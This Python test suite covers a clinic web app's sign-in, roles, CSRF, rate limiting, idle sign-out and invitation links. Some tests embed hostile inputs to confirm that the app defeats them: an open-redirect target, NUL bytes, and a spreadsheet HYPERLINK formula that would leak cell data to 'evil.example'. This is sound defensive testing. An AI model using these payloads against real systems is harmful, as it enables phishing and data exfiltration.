"""Clinic mode through the web: signing in, roles, CSRF on every write, slowed guessing, and a whole journey from
the admin's link to a patient's first session in real Chromium."""

from __future__ import annotations

import csv
import io
import os
import re
import socket
import subprocess
import sys
import threading
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient
from playwright.sync_api import Browser, expect
from sqlalchemy import update

from backstretch.core.accounts import FAILURES_ALLOWED, Role
from backstretch.core.profile import Profile
from backstretch.core.safety import QUESTIONS, Screening
from backstretch.library import load_catalogue
from backstretch.store import open_store
from backstretch.store.accounts import Accounts
from backstretch.store.models import LoginRow, PersonRow
from backstretch.web.app import YOUNG_OBJECTS_BEFORE_COLLECTING, create_app
from tests.helpers import backstretch
from tests.onboarding import answer_safety, fill_profile
from tests.web import LiveServer, screenshot

PASSWORD = "a long clinic password"


def _link(output: str) -> str:
    found = re.search(r"(https?://\S+/reset\?token=\S+)", output)
    assert found, output
    return found.group(1)


def _csrf(client: TestClient) -> str:
    token = client.cookies.get("backstretch_csrf")
    assert token, "the first page sets the CSRF cookie"
    return token


def _clinician(client: TestClient, url: str, email: str = "doc@example.org") -> None:
    """Made on the command line, then the password set through the printed link: signed in as them."""
    made = backstretch("admin", "create-clinician", email, "--name", "Dr Doc", "--db", url)
    assert made.returncode == 0, made.stderr
    path = _link(made.stdout).split("127.0.0.1:8000", 1)[1]
    assert client.get(path).status_code == 200
    done = client.post(path, data={"password": PASSWORD, "again": PASSWORD, "csrf": _csrf(client)},
                       follow_redirects=False)  # fmt: skip
    assert done.status_code == 303 and done.headers["location"] == "/clinic"


def test_signed_out_only_the_sign_in_pages_open(database_url: str) -> None:
    client = TestClient(create_app(database_url, multi_user=True))
    page = client.get("/today", follow_redirects=False)
    assert page.status_code == 303 and page.headers["location"] == "/login?next=/today"
    assert client.get("/api/plan").status_code == 401
    assert client.post("/api/measures", json={"kind": "pain", "value": 3}).status_code in (401, 403)
    assert client.get("/login").status_code == 200 and client.get("/library").status_code == 200
    assert client.get("/").status_code == 200
    # On one person's own computer none of this exists.
    single = TestClient(create_app(database_url))
    assert single.get("/login").status_code == 404
    assert single.get("/today", follow_redirects=False).headers["location"] == "/onboarding/profile"


def test_each_write_needs_the_csrf_token_and_each_role_its_own_pages(database_url: str) -> None:
    client = TestClient(create_app(database_url, multi_user=True))
    client.get("/login")
    refused = client.post("/login", data={"email": "doc@example.org", "password": PASSWORD})
    assert refused.status_code == 403 and "expired" in refused.text, "a form without the token is refused"
    _clinician(client, database_url)
    assert client.get("/clinic").status_code == 200
    assert client.get("/today").status_code == 403 and client.get("/api/plan").status_code == 403
    invited = client.post("/clinic/invite", data={"email": "sam@example.org", "csrf": _csrf(client)})
    join = re.search(r'value="(http://testserver/join\?token=[^"]+)"', invited.text)
    assert invited.status_code == 200 and join, invited.text
    assert client.post("/clinic/invite", data={"email": "sam@example.org"}).status_code == 403
    client.post("/logout", data={"csrf": _csrf(client)})
    assert client.get("/clinic", follow_redirects=False).status_code == 303

    path = join.group(1).removeprefix("http://testserver")
    weak = client.post(path, data={"name": "Sam", "password": "short", "again": "short", "csrf": _csrf(client)})
    assert weak.status_code == 422 and "at least 10" in weak.text
    joined = client.post(path, data={"name": "Sam", "password": PASSWORD, "again": PASSWORD, "csrf": _csrf(client)},
                         follow_redirects=False)  # fmt: skip
    assert joined.status_code == 303 and joined.headers["location"] == "/today"
    assert client.get("/clinic").status_code == 403
    assert client.put("/api/profile", json={"minutes": 8}).status_code == 403, "the API needs the token too"
    saved = client.put("/api/profile", json={"minutes": 8}, headers={"X-CSRF-Token": _csrf(client)})
    assert saved.status_code == 200 and client.get("/api/profile").json()["minutes"] == 8


def test_guessing_a_password_is_slowed_down_and_cookies_are_safe(database_url: str) -> None:
    client = TestClient(create_app(database_url, multi_user=True), base_url="https://clinic.example")
    _clinician(client, database_url)
    client.post("/logout", data={"csrf": _csrf(client)})
    for _ in range(FAILURES_ALLOWED):
        wrong = client.post("/login", data={"email": "doc@example.org", "password": "not it at all",
                                            "csrf": _csrf(client)})  # fmt: skip
        assert wrong.status_code == 401 and "do not match" in wrong.text
    slowed = client.post("/login", data={"email": "doc@example.org", "password": PASSWORD, "csrf": _csrf(client)})
    assert slowed.status_code == 429 and "Please wait 15 minutes" in slowed.text
    other = TestClient(create_app(database_url, multi_user=True), base_url="https://clinic.example")
    other.get("/login")
    ok = other.post("/login?", data={"email": "doc@example.org", "password": PASSWORD, "csrf": _csrf(other),
                                     "next": "//evil.example/x"}, follow_redirects=False)  # fmt: skip
    # The test client comes from the same address, so it is slowed down too: the limit is per email and address.
    assert ok.status_code == 429


def test_login_cookie_flags_and_no_open_redirect(database_url: str) -> None:
    client = TestClient(create_app(database_url, multi_user=True), base_url="https://clinic.example")
    _clinician(client, database_url)
    client.post("/logout", data={"csrf": _csrf(client)})
    answer = client.post("/login", data={"email": "doc@example.org", "password": PASSWORD, "csrf": _csrf(client),
                                         "next": "//evil.example/x"}, follow_redirects=False)  # fmt: skip
    assert answer.status_code == 303 and answer.headers["location"] == "/clinic"
    cookie = next(v for k, v in answer.headers.multi_items() if k == "set-cookie" and "backstretch_login" in v)
    assert "HttpOnly" in cookie and "SameSite=lax" in cookie and "Secure" in cookie


def test_from_the_admins_link_to_a_patients_first_session(browser: Browser, tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    url = f"sqlite:///{tmp_path / 'clinic.sqlite3'}"
    with LiveServer(url, multi_user=True) as server:
        # As a clinic does (docs/clinic.md): the address people open it at, for every link it hands out.
        monkeypatch.setenv("BACKSTRETCH_BASE_URL", server.url)
        made = backstretch("admin", "create-clinician", "doc@example.org", "--name", "Dr Doc", "--db", url)
        doctor = browser.new_context(viewport={"width": 390, "height": 844})
        page = doctor.new_page()
        page.goto(_link(made.stdout))
        page.get_by_label("New password").fill(PASSWORD)
        page.get_by_label("The same password again").fill(PASSWORD)
        page.get_by_role("button", name="Set password").click()
        expect(page.get_by_role("heading", name="Your patients")).to_be_visible()
        page.get_by_label("Their email").fill("sam@example.org")
        page.get_by_role("button", name="Make an invitation link").click()
        link = page.get_by_label("The link").input_value()
        screenshot(page, "clinic-invite")

        patient = browser.new_context(viewport={"width": 390, "height": 844})
        sam = patient.new_page()
        sam.goto(link)
        sam.get_by_label("Your name").fill("Sam Smith")
        sam.get_by_label("Password", exact=True).fill(PASSWORD)
        sam.get_by_label("The same password again").fill(PASSWORD)
        sam.get_by_role("button", name="Join").click()
        sam.wait_for_url("**/onboarding/profile")
        fill_profile(sam, minutes="3")
        answer_safety(sam)
        sam.goto(f"{server.url}/player?minutes=3&speed=100")
        sam.locator("#before").get_by_role("button", name="2", exact=True).click()
        sam.wait_for_url("**/player?session=*")
        session_id = int(sam.url.split("session=")[1].split("&")[0])
        check = sam.get_by_role("button", name="Just a stretch")
        for _ in range(300):  # ready, and in position, until the first stretch's pain check
            if check.is_visible():
                break
            if sam.locator("#go").is_visible():
                sam.locator("#go").click()
            sam.wait_for_timeout(100)
        expect(check).to_be_visible(timeout=30000)
        assert httpx.get(f"{server.url}/api/sessions/{session_id}").status_code == 401, "not signed in: no data"
        store = open_store(url)
        sam_id = Accounts(store.engine).by_email("sam@example.org")
        assert sam_id is not None and store.for_person(sam_id.id).recorded_steps(session_id), "the page's writes, "
        "with their CSRF header, were saved as Sam's"
        assert store.history() == [], "and not as anyone else's"
        page.goto(f"{server.url}/clinic")
        expect(page.locator("tr[data-patient]")).to_have_count(1)
        expect(page.locator("tr[data-patient] th a")).to_have_text("Sam Smith")
        screenshot(page, "clinic-patients")
        page.get_by_role("link", name="Sam Smith").click()
        expect(page.get_by_role("heading", name="Sam Smith")).to_be_visible()
        page.get_by_role("link", name="Start from the planner's suggestion").click()
        page.get_by_role("button", name="Assign this program").click()
        expect(page.get_by_role("status")).to_contain_text("The program is assigned")
        page.wait_for_function("() => [...document.querySelectorAll('.chart img')]"
                               ".every((i) => i.complete && i.naturalWidth)")  # fmt: skip
        screenshot(page, "clinic-patient")
        with page.expect_response(lambda r: "/handout.pdf" in r.url) as sheet:  # the program as a home sheet
            page.locator("#print").click()
        assert sheet.value.status == 200 and sheet.value.headers["content-type"] == "application/pdf"
        page.go_back()
        sam.goto(f"{server.url}/today")
        expect(sam.get_by_role("heading", name="Your program today")).to_be_visible()
        doctor.close()
        patient.close()


def test_changing_the_password_signs_other_browsers_out(database_url: str) -> None:
    app = create_app(database_url, multi_user=True)
    here, there = TestClient(app), TestClient(app)
    _clinician(here, database_url)
    there.get("/login")
    there.post("/login", data={"email": "doc@example.org", "password": PASSWORD, "csrf": _csrf(there)})
    assert there.get("/clinic").status_code == 200
    new = "an even longer password"
    form = {"current": "not my password", "password": new, "again": new, "csrf": _csrf(here)}
    assert "current password is wrong" in here.post("/account/password", data=form).text
    mismatch = here.post("/account/password", data={**form, "current": PASSWORD, "again": new + "!"})
    assert mismatch.status_code == 422 and "not the same" in mismatch.text
    done = here.post("/account/password", data={**form, "current": PASSWORD}, follow_redirects=False)
    assert done.status_code == 303 and "changed" in here.get(done.headers["location"]).text
    assert here.get("/clinic").status_code == 200, "this browser stays signed in"
    assert there.get("/clinic", follow_redirects=False).status_code == 303, "the other one is signed out"


def _patient(accounts: Accounts, doctor_id: int, email: str, name: str) -> int:
    token = accounts.issue_link("invite", email, Role.PATIENT, issued_by=doctor_id)
    return accounts.join(token, name, PASSWORD).id


def _signed_in_as(app: Any, accounts: Accounts, person_id: int) -> TestClient:
    client = TestClient(app)
    client.cookies.set("backstretch_login", accounts.open_login(person_id))
    client.cookies.set("backstretch_csrf", "token-for-tests")
    client.headers["X-CSRF-Token"] = "token-for-tests"
    return client


def _clinic_with_two_patients(database_url: str) -> tuple[Any, Accounts, Any, int, int]:
    """A clinician, Dr Doc, with two patients, Amy and Ben, who have answered the profile and safety questions."""
    app = create_app(database_url, multi_user=True)
    accounts = Accounts(open_store(database_url).engine)
    doc = accounts.create("doc@example.org", Role.CLINICIAN, "Dr Doc", PASSWORD)
    amy = _patient(accounts, doc.id, "amy@example.org", "Amy")
    ben = _patient(accounts, doc.id, "ben@example.org", "Ben")
    store = open_store(database_url)
    for pid in (amy, ben):
        store.for_person(pid).save_profile(Profile(minutes=5))
        store.for_person(pid).add_screening(Screening(date.today(), {q.id: False for q in QUESTIONS}))
    return app, accounts, doc, amy, ben


def test_a_program_becomes_the_patients_routine_and_the_dashboard_sorts_by_need(database_url: str) -> None:
    app, accounts, doc, amy, ben = _clinic_with_two_patients(database_url)
    store = open_store(database_url)
    today = date.today()
    hurt = store.for_person(ben).start_session(today, {"items": []}, None)
    store.for_person(ben).report_feeling(hurt, today, "cat-stretch", "painful")
    clinic = _signed_in_as(app, accounts, doc.id)

    board = clinic.get("/clinic").text
    assert board.index("Ben") < board.index("Amy"), "the patient with a flag comes first"
    assert "painful: Cat stretch" in board

    form = {"day": [str(today.weekday())], "use-cat-stretch": "on", "hold-cat-stretch": "999", "reps-cat-stretch": "1",
            "note": "Gently, please."}  # fmt: skip
    refused = clinic.post(f"/clinic/patients/{amy}/program", data=form)
    assert refused.status_code == 422 and "hold it" in refused.text and store.for_person(amy).program() is None
    hold = load_catalogue()["chair-chin-tuck"].hold_seconds.default
    form |= {"use-cat-stretch": [], "use-chair-chin-tuck": "on", "hold-chair-chin-tuck": str(hold),
             "reps-chair-chin-tuck": "2"}  # fmt: skip
    form = {k: v for k, v in form.items() if v != []}
    saved = clinic.post(f"/clinic/patients/{amy}/program", data=form, follow_redirects=False)
    assert saved.status_code == 303, saved.text
    assert "Assigned since" in clinic.get(f"/clinic/patients/{amy}").text

    amy_client = _signed_in_as(app, accounts, amy)
    plan = amy_client.get("/api/plan").json()
    assert plan["program"] is True and [(i["stretch"], i["reps"]) for i in plan["items"]] == [("chair-chin-tuck", 2)]
    assert "Gently, please." in plan["reasons"]
    assert "Your program today" in amy_client.get("/today").text and "Swap" not in amy_client.get("/today").text
    # On a day the program leaves free, with the planner not allowed to fill it: a rest day.
    other_day = (today.weekday() + 1) % 7
    clinic.post(f"/clinic/patients/{amy}/program", data={**form, "day": [str(other_day)]})
    rest = amy_client.get("/api/plan").json()
    assert rest["items"] == [] and "rest day" in rest["warnings"][0]
    clinic.post(f"/clinic/patients/{amy}/program", data={**form, "day": [str(other_day)], "fill": "on"})
    assert amy_client.get("/api/plan").json()["program"] is False, "the planner fills a free day when allowed"

    suggested = clinic.get(f"/clinic/patients/{amy}?suggest=1")
    assert suggested.status_code == 200 and suggested.text.count("checked> ") >= 1

    export = clinic.get("/clinic/export.csv")
    rows = list(csv.DictReader(io.StringIO(export.text)))
    assert {r["name"] for r in rows} == {"Ben"} and rows[0]["painful"] == "cat-stretch"
    assert export.headers["content-disposition"].startswith('attachment; filename="backstretch-patients-')


def test_a_patients_session_note_reaches_their_clinician(database_url: str) -> None:
    """The one message a patient sends: the note at the end of a session, on their clinician's page of them."""
    app, accounts, doc, amy, ben = _clinic_with_two_patients(database_url)
    patient = _signed_in_as(app, accounts, amy)
    session = patient.post("/api/sessions", json={"minutes": 3}).json()
    note = "Left hip <tight> after the long drive"
    finished = patient.post(f"/api/sessions/{session['id']}/finish", json={"status": "partial", "note": note})
    assert finished.status_code == 200
    clinic = _signed_in_as(app, accounts, doc.id)
    page = clinic.get(f"/clinic/patients/{amy}").text
    assert "Left hip &lt;tight&gt; after the long drive" in page, "shown, and escaped"
    assert note not in clinic.get(f"/clinic/patients/{ben}").text


def test_review_fixes_hold(database_url: str) -> None:
    """Found in review: each was a 500, a leak or a way around a rule."""
    app, accounts, _, amy, ben = _clinic_with_two_patients(database_url)
    store = open_store(database_url)
    anon = TestClient(app)
    anon.get("/login")
    bad = anon.post("/login", data={"email": "doc\x00@example.org", "password": "x", "csrf": _csrf(anon)})
    assert bad.status_code == 401, "a NUL in the email is a wrong login, not a crash"
    amy_client, ben_client = _signed_in_as(app, accounts, amy), _signed_in_as(app, accounts, ben)
    key = str(uuid.uuid4())
    assert amy_client.post("/api/sessions", json={"minutes": 5, "key": key}).status_code == 201
    taken = ben_client.post("/api/sessions", json={"minutes": 5, "key": key})
    assert taken.status_code == 409 and store.for_person(ben).history() == []
    upload = ben_client.post("/settings/import", files={"file": ("b.json", b"{}")})
    assert upload.status_code == 403 and "Import a backup" not in ben_client.get("/settings").text
    assert ben_client.post("/api/measures", json={"kind": "pain", "value": 3, "note": "bad\x00note"}).status_code < 500
    assert TestClient(create_app(database_url)).get("/clinic").status_code == 404, "no clinic on one computer"
    prefixed = TestClient(app, root_path="/bs")
    prefixed.cookies.set("backstretch_login", accounts.open_login(amy))
    assert prefixed.get("/bs/clinic").status_code == 403, "a path prefix does not get round the roles"


def test_a_step_is_saved_only_while_its_patient_is_signed_in(database_url: str) -> None:
    """Saving a step checks the login in its own statement once the session has been read: signing out, another
    patient's login and a clinician's are each refused there too, and nothing is written."""
    app, accounts, doc, amy, ben = _clinic_with_two_patients(database_url)
    store = open_store(database_url).for_person(amy)
    amy_client = _signed_in_as(app, accounts, amy)
    session = amy_client.post("/api/sessions", json={"minutes": 3}).json()["id"]
    step = f"/api/sessions/{session}/steps"

    def post(client: TestClient, index: int) -> int:
        return client.post(step, json={"index": index, "seconds": 1, "outcome": "done"}).status_code

    assert post(amy_client, 0) == 200 and post(amy_client, 1) == 200, "the second save goes the short way"
    assert post(_signed_in_as(app, accounts, ben), 2) == 404, "another patient's login: not their session"
    assert post(_signed_in_as(app, accounts, doc.id), 2) == 403, "a clinician does not save patients' steps"
    signed_out = TestClient(app)
    signed_out.cookies.set("backstretch_csrf", "token-for-tests")
    signed_out.headers["X-CSRF-Token"] = "token-for-tests"
    assert post(signed_out, 2) == 401
    no_csrf = _signed_in_as(app, accounts, amy)
    del no_csrf.headers["X-CSRF-Token"]
    assert post(no_csrf, 2) == 403, "the CSRF token is still checked first"
    assert amy_client.post("/logout").status_code in (200, 303)
    assert post(amy_client, 2) == 401, "signed out: the step the page kept is refused, not saved"
    assert store.recorded_steps(session) == {0, 1}
    again = _signed_in_as(app, accounts, amy)
    assert post(again, 2) == 200 and store.recorded_steps(session) == {0, 1, 2}


def test_a_step_is_refused_once_its_login_is_no_longer_a_patients(database_url: str) -> None:
    """The statement that saves a step also checks that the signed-in account is still a patient's: made a
    clinician in the database behind the app's back (after the session was read), the login saves nothing."""
    app, accounts, _doc, amy, _ben = _clinic_with_two_patients(database_url)
    store = open_store(database_url).for_person(amy)
    amy_client = _signed_in_as(app, accounts, amy)
    session = amy_client.post("/api/sessions", json={"minutes": 3}).json()["id"]

    def post(index: int) -> int:
        step = f"/api/sessions/{session}/steps"
        return amy_client.post(step, json={"index": index, "seconds": 1, "outcome": "done"}).status_code

    assert post(0) == 200
    with store.engine.begin() as connection:
        connection.execute(update(PersonRow).where(PersonRow.id == amy).values(role=Role.CLINICIAN.value))
    assert post(1) == 403 and store.recorded_steps(session) == {0}
    with store.engine.begin() as connection:
        connection.execute(update(PersonRow).where(PersonRow.id == amy).values(role=Role.PATIENT.value))
    assert post(1) == 200 and store.recorded_steps(session) == {0, 1}


def _workers_of(server: subprocess.Popen[bytes]) -> list[int]:
    """The worker processes uvicorn's supervisor started for `serve --workers N`, from /proc."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            parent = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
            if parent == server.pid and b"spawn_main" in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except (OSError, ValueError):
            continue
    return found


def test_two_workers_serve_one_clinic_from_one_postgresql(postgres_url: str) -> None:
    """`serve --workers 2`: two processes share the requests, and what is written through one connection shows on
    every later one, whichever worker answers it."""
    _, accounts, doc, amy, _ = _clinic_with_two_patients(postgres_url)
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = int(probe.getsockname()[1])
    base = f"http://127.0.0.1:{port}"
    server = subprocess.Popen([sys.executable, "-m", "backstretch", "serve", "--multi-user", "--workers", "2",
                               "--port", str(port), "--db", postgres_url], stdout=subprocess.DEVNULL)  # fmt: skip
    try:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            try:
                if httpx.get(f"{base}/api/health", timeout=1).status_code == 200 and len(_workers_of(server)) == 2:
                    break
            except httpx.HTTPError:
                pass
            time.sleep(0.2)
        assert len(_workers_of(server)) == 2, "two worker processes"
        cookies = {"backstretch_login": accounts.open_login(doc.id), "backstretch_csrf": "token-for-tests"}
        headers = {"X-CSRF-Token": "token-for-tests"}
        # Each request on a connection of its own, so the two workers share them: a sign-in made in the database
        # is honoured by both, and a program assigned through one shows on pages served by either.
        with httpx.Client(base_url=base, cookies=cookies, headers=headers) as client:
            form = {"day": [str(d) for d in range(7)], "use-chair-chin-tuck": "on", "hold-chair-chin-tuck": "20",
                    "reps-chair-chin-tuck": "2", "note": "Slowly."}  # fmt: skip
            saved = client.post(f"/clinic/patients/{amy}/program", data=form, follow_redirects=False)
            assert saved.status_code == 303, saved.text[:300]
        as_amy = {"backstretch_login": accounts.open_login(amy)}
        for _ in range(12):
            with httpx.Client(base_url=base, cookies=cookies, headers={"Connection": "close"}) as client:
                board = client.get("/clinic")
                assert board.status_code == 200 and "Amy" in board.text and "Ben" in board.text
                assert "Assigned since" in client.get(f"/clinic/patients/{amy}").text
            with httpx.Client(base_url=base, cookies=as_amy, headers={"Connection": "close"}) as client:
                plan = client.get("/api/plan").json()
                assert plan["program"] is True and [i["stretch"] for i in plan["items"]] == ["chair-chin-tuck"]
    finally:
        server.terminate()
        server.wait(timeout=20)


def test_a_served_app_keeps_its_start_up_objects_out_of_the_collectors_way(tmp_path: Path) -> None:
    """What each worker of `serve --workers N` builds (tune_garbage_collector says why), in a process of its own:
    freezing objects here would keep every test's app alive."""
    script = ("import gc; from backstretch.web.app import app_from_environment as make; before = gc.get_threshold(); "
              "make(); print(before[0], gc.get_threshold()[0], gc.get_freeze_count())")  # fmt: skip
    env = {**os.environ, "BACKSTRETCH_DATABASE_URL": f"sqlite:///{tmp_path / 'served.sqlite3'}"}
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, env=env, timeout=60)
    assert done.returncode == 0, done.stderr
    default, tuned, frozen = map(int, done.stdout.split())
    assert (default, tuned) == (700, YOUNG_OBJECTS_BEFORE_COLLECTING) and frozen > 10_000


def test_the_clinic_export_never_hands_a_spreadsheet_a_formula(database_url: str) -> None:
    """A patient named like a formula is written as text beside the others' names and emails."""
    app = create_app(database_url, multi_user=True)
    accounts = Accounts(open_store(database_url).engine)
    doc = accounts.create("doc@example.org", Role.CLINICIAN, "Dr Doc", PASSWORD)
    name = '=HYPERLINK("http://evil.example/?"&C3,"Open")'
    eve = _patient(accounts, doc.id, "eve@example.org", name)
    open_store(database_url).for_person(eve).start_session(date.today(), {"items": []}, None)
    rows = list(csv.reader(io.StringIO(_signed_in_as(app, accounts, doc.id).get("/clinic/export.csv").text)))
    assert rows[1][1] == "'" + name, "shown as typed, after the apostrophe that keeps it text"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_a_one_time_link_sent_many_times_at_once_works_once(database_url: str) -> None:
    """Six parallel password resets with one link, and two parallel joins with one invitation: one of each goes
    through, the others get the page that says the link was used, and none is a server error."""
    with LiveServer(database_url, multi_user=True) as server:
        accounts = Accounts(open_store(database_url).engine)
        doc = accounts.create("doc@example.org", Role.CLINICIAN, "Dr Doc", PASSWORD)
        for path, token, count, form in (
            ("/reset", accounts.issue_link("reset", doc.email or "", Role.CLINICIAN, None, doc.id), 6, {}),
            ("/join", accounts.issue_link("invite", "sam@example.org", Role.PATIENT, doc.id), 2, {"name": "Sam"}),
        ):
            start = threading.Barrier(count)

            def use(n: int, path: str = path, token: str = token, form: dict[str, str] = form,
                    start: threading.Barrier = start) -> httpx.Response:  # fmt: skip
                with httpx.Client(base_url=server.url, cookies={"backstretch_csrf": "t"}) as client:
                    start.wait()
                    return client.post(f"{path}?token={token}", data={**form, "password": f"{PASSWORD} {n}",
                                       "again": f"{PASSWORD} {n}", "csrf": "t"})  # fmt: skip

            with ThreadPoolExecutor(count) as pool:
                answers = list(pool.map(use, range(count)))
            assert sorted(a.status_code for a in answers) == [303] + [410] * (count - 1), path
            assert all("This link was used already" in a.text for a in answers if a.status_code == 410)
        winner = [a for a in answers if a.status_code == 303]
        assert len(winner) == 1 and accounts.by_email("sam@example.org") is not None


def test_inviting_an_email_does_not_tell_whether_it_has_an_account(database_url: str) -> None:
    app, accounts, doc, _, _ = _clinic_with_two_patients(database_url)
    other = accounts.create("other@example.org", Role.CLINICIAN, "Dr Other", PASSWORD)
    clinic = _signed_in_as(app, accounts, doc.id)
    answers = [clinic.post("/clinic/invite", data={"email": email}) for email in
               ("new@example.org", "amy@example.org", other.email or "")]  # fmt: skip
    assert [a.status_code for a in answers] == [200, 200, 200]
    assert all("/join?token=" in a.text and "already" not in a.text for a in answers)
    join = re.search(r'value="http://testserver(/join\?token=[^"]+)"', answers[2].text)
    assert join, answers[2].text
    used = TestClient(app).post(join.group(1), data={"name": "X", "password": PASSWORD, "again": PASSWORD},
                                headers={"X-CSRF-Token": "t"}, cookies={"backstretch_csrf": "t"})  # fmt: skip
    assert used.status_code == 422 and "please sign in instead" in used.text, "the link's owner is told to sign in"


def _invite_link(app: Any, accounts: Accounts, doctor_id: int, base_url: str) -> str:
    client = _signed_in_as(app, accounts, doctor_id)
    client.base_url = httpx.URL(base_url)
    invited = client.post("/clinic/invite", data={"email": "new@example.org"})
    found = re.search(r'value="([^"]+)/join\?token=[^"]+"', invited.text)
    assert invited.status_code == 200 and found, invited.text
    return found.group(1)


def test_an_invitation_link_points_at_the_configured_address_never_at_the_requests_host(
    database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The Host header is whatever the sender says (a proxy may pass any on): a link built from it could send a
    patient's first password to another site. Links start with the base URL, or the first name configured."""
    app = create_app(database_url, multi_user=True, hosts=["mybox.example"])
    accounts = Accounts(open_store(database_url).engine)
    doc = accounts.create("doc@example.org", Role.CLINICIAN, "Dr Doc", PASSWORD)
    # clinic.example is on the allowlist too (tests/conftest.py), but it is not the first name given.
    assert _invite_link(app, accounts, doc.id, "http://clinic.example") == "http://mybox.example"

    monkeypatch.setenv("BACKSTRETCH_BASE_URL", "https://clinic.example.org/backstretch/")
    app = create_app(database_url, multi_user=True)
    assert _invite_link(app, accounts, doc.id, "http://testserver") == "https://clinic.example.org/backstretch"
    assert TestClient(app, base_url="https://clinic.example.org").get("/api/health").status_code == 200
    made = backstretch("admin", "create-clinician", "sue@example.org", "--name", "Dr Sue", "--db", database_url)
    assert made.returncode == 0 and _link(made.stdout).startswith("https://clinic.example.org/backstretch/reset?")


@pytest.mark.parametrize("value", ["clinic.example.org", "ftp://clinic.example.org", "https://x.example/?a=1"])
def test_a_base_url_that_is_not_an_address_is_refused_by_name(value: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BACKSTRETCH_BASE_URL", value)
    made = backstretch("admin", "create-clinician", "sue@example.org")
    assert made.returncode == 2 and "Traceback" not in made.stderr
    assert "BACKSTRETCH_BASE_URL" in made.stderr and "https://clinic.example.org" in made.stderr


def test_a_login_left_unused_is_signed_out_with_a_plain_word(
    database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A patient's login last used 9 hours ago (the stored time moved back): pages go to the sign-in page, which
    says why once; saving a step is refused too. A clinic that sets 2 hours signs out after 2."""
    app, accounts, doc, amy, _ = _clinic_with_two_patients(database_url)
    client = _signed_in_as(app, accounts, amy)
    session = client.post("/api/sessions", json={"minutes": 3}).json()["id"]
    engine = open_store(database_url).engine

    def unused_for(hours: float) -> None:
        with engine.begin() as connection:
            connection.execute(update(LoginRow).values(last_seen_at=datetime.now() - timedelta(hours=hours)))

    unused_for(7.5)
    assert client.get("/today").status_code == 200, "within 8 hours: still signed in"
    unused_for(9)
    step = client.post(f"/api/sessions/{session}/steps", json={"index": 0, "seconds": 1, "outcome": "done"})
    assert step.status_code == 401
    page = client.get("/today", follow_redirects=False)
    assert page.status_code == 303 and page.headers["location"] == "/login?next=/today"
    signed_out = client.get(page.headers["location"])
    notice = "You were signed out because this browser had not used backstretch for about 8 hours."
    assert notice in signed_out.text and "Max-Age=0" in signed_out.headers["set-cookie"], "the cookie is dropped"
    assert notice not in client.get("/login").text, "said once"

    monkeypatch.setenv("BACKSTRETCH_IDLE_HOURS", "2")
    client = _signed_in_as(app, accounts, doc.id)
    unused_for(1.5)
    assert client.get("/clinic").status_code == 200
    unused_for(2.5)
    assert client.get("/clinic", follow_redirects=False).status_code == 303
    assert "for about 2 hours" in client.get("/login").text


def test_the_sign_in_page_says_why_a_browser_left_alone_was_signed_out(browser: Browser, tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'clinic.sqlite3'}"
    with LiveServer(url, multi_user=True) as server:
        accounts = Accounts(open_store(url).engine)
        doc = accounts.create("doc@example.org", Role.CLINICIAN, "Dr Doc", PASSWORD)
        _patient(accounts, doc.id, "amy@example.org", "Amy")
        page = browser.new_page(viewport={"width": 390, "height": 844})
        page.goto(f"{server.url}/login")
        page.get_by_label("Email").fill("amy@example.org")
        page.get_by_label("Password").fill(PASSWORD)
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_url("**/onboarding/**")
        with open_store(url).engine.begin() as connection:
            connection.execute(update(LoginRow).values(last_seen_at=datetime.now() - timedelta(hours=9)))
        page.goto(f"{server.url}/progress")
        notice = "You were signed out because this browser had not used backstretch for about 8 hours."
        expect(page.get_by_role("status")).to_have_text(f"{notice} Please sign in again.")
        assert page.url.endswith("/login?next=/progress")
        screenshot(page, "login-after-idle")
        page.close()
